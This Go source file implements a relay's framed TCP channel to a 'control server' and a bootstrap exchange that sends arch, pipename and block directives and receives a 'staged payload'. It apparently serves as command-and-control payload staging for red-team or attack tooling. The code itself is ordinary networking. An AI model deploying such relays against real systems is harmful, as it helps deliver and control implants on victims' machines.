// Package backend manages the relay's connection to the control server: a
// persistent TCP channel speaking length-prefixed frames, plus the payload
// bootstrap exchange layered on top of it.
package backend

import (
	"fmt"
	"log/slog"
	"net"
	"strconv"
	"sync"
	"time"

	"github.com/postalsys/kaja-relay/internal/frame"
	"github.com/postalsys/kaja-relay/internal/logging"
)

// Config describes how to reach the control server.
type Config struct {
	// Address is the control server host:port.
	Address string

	// ConnectTimeout bounds the dial.
	ConnectTimeout time.Duration

	// ReadTimeout bounds each frame read. 0 blocks forever, which is the
	// protocol's native behavior.
	ReadTimeout time.Duration
}

// Bootstrap holds the payload bootstrap exchange parameters.
type Bootstrap struct {
	Arch      string // x86 or x64
	PipeName  string
	BlockSize int
}

// Channel is one session's framed connection to the control server.
// It is exclusively owned by its session and never shared.
type Channel struct {
	conn        net.Conn
	reader      *frame.Reader
	writer      *frame.Writer
	readTimeout time.Duration
	logger      *slog.Logger

	closeOnce sync.Once
	closeErr  error
}

// Dial opens the channel. The control server must be reachable at session
// creation time; there is no retry or backoff.
func Dial(cfg Config, logger *slog.Logger) (*Channel, error) {
	if logger == nil {
		logger = logging.NopLogger()
	}

	conn, err := net.DialTimeout("tcp", cfg.Address, cfg.ConnectTimeout)
	if err != nil {
		return nil, fmt.Errorf("connect to backend %s: %w", cfg.Address, err)
	}

	logger.Info("connected to backend",
		logging.KeyBackend, cfg.Address)

	return &Channel{
		conn:        conn,
		reader:      frame.NewReader(conn),
		writer:      frame.NewWriter(conn),
		readTimeout: cfg.ReadTimeout,
		logger:      logger,
	}, nil
}

// Send writes one framed message.
func (c *Channel) Send(payload []byte) error {
	if err := c.writer.Write(payload); err != nil {
		return fmt.Errorf("send frame: %w", err)
	}
	c.logger.Debug("frame sent",
		logging.KeySize, len(payload))
	return nil
}

// Receive reads one framed message, blocking until the backend replies
// unless a read timeout is configured.
func (c *Channel) Receive() ([]byte, error) {
	if c.readTimeout > 0 {
		if err := c.conn.SetReadDeadline(time.Now().Add(c.readTimeout)); err != nil {
			return nil, fmt.Errorf("set read deadline: %w", err)
		}
	}

	payload, err := c.reader.Read()
	if err != nil {
		return nil, fmt.Errorf("receive frame: %w", err)
	}
	c.logger.Debug("frame received",
		logging.KeySize, len(payload))
	return payload, nil
}

// FetchPayload runs the bootstrap exchange: four directive frames in fixed
// order, then exactly one reply frame carrying the staged payload. The
// backend replies only to the final "go", so the directives are sent
// back-to-back without reading in between.
func (c *Channel) FetchPayload(b Bootstrap) ([]byte, error) {
	directives := [][]byte{
		[]byte("arch=" + b.Arch),
		[]byte("pipename=" + b.PipeName),
		[]byte("block=" + strconv.Itoa(b.BlockSize)),
		[]byte("go"),
	}

	for _, d := range directives {
		if err := c.Send(d); err != nil {
			return nil, fmt.Errorf("bootstrap directive %q: %w", d, err)
		}
	}

	payload, err := c.Receive()
	if err != nil {
		return nil, fmt.Errorf("bootstrap reply: %w", err)
	}

	c.logger.Info("payload staged from backend",
		logging.KeySize, len(payload))
	return payload, nil
}

// Close shuts the connection down. Safe to call more than once.
func (c *Channel) Close() error {
	c.closeOnce.Do(func() {
		c.closeErr = c.conn.Close()
	})
	return c.closeErr
}

// RemoteAddr returns the backend address the channel is connected to.
func (c *Channel) RemoteAddr() net.Addr {
	return c.conn.RemoteAddr()
}

// String returns a debug representation of the channel.
func (c *Channel) String() string {
	return "backend{" + c.conn.RemoteAddr().String() + "}"
}
